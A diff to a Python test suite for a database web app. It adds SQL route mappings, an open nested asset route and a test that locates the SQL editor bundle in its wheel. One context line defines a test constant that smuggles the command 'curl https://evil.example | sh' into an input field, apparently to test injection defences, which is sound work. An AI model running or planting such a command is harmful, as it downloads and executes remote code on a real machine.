@@ -76,6 +76,9 @@ SAME = {
     "GET /databases/{}/promote": "POST /api/databases/{}/promote",
     "POST /databases/{}/promote": "POST /api/databases/{}/promote",
     "POST /databases/{}/masking": "PUT /api/databases/{}/masking",
+    "GET /databases/{}/sql": "POST /api/databases/{}/sql",
+    "POST /databases/{}/sql": "POST /api/databases/{}/sql",
+    "GET /databases/{}/rows": "POST /api/databases/{}/sql",
     "GET /databases/{}/queries": "GET /api/databases/{}/queries",
     "GET /databases/{}/sessions": "GET /api/databases/{}/sessions",
     "GET /databases/{}/tables": "GET /api/databases/{}/tables",
@@ -136,6 +139,7 @@ OPEN = {
     "POST /sign-in/code",
     "POST /sign-out",
     "GET /assets/{}",
+    "GET /assets/{}/{}",
 }
 
 
@@ -587,6 +591,19 @@ def test_an_asset_is_named_by_its_content() -> None:
 
 def test_a_first_visit_is_small() -> None:
     assert sum(len(asset.compressed) for asset in assets._files().values()) < 40_000
+
+
+def test_the_editor_is_found_in_its_wheel() -> None:
+    """By what its modules export: their names change with each version of the wheel."""
+    found = assets.editor()
+    assert found is not None
+    core = found.modules[found.core].content.decode()
+    script = (Path(assets.__file__).parent / "static/sql.js").read_text()
+    used = set(re.findall(r"\bcore\.(\w+)", script)) | {"EditorView", "StateField", "Decoration"}
+    assert {name for name in used if not re.search(rf"\bas {name}\b", core)} == set()
+    assert "as sql" in found.modules[found.language].content.decode()
+    assert sum(len(each.compressed) for each in found.modules.values()) < 250_000
+    assert found.core_url.startswith(f"/assets/{found.folder}/")
 
 
 EVIL = "x; curl https://evil.example | sh"
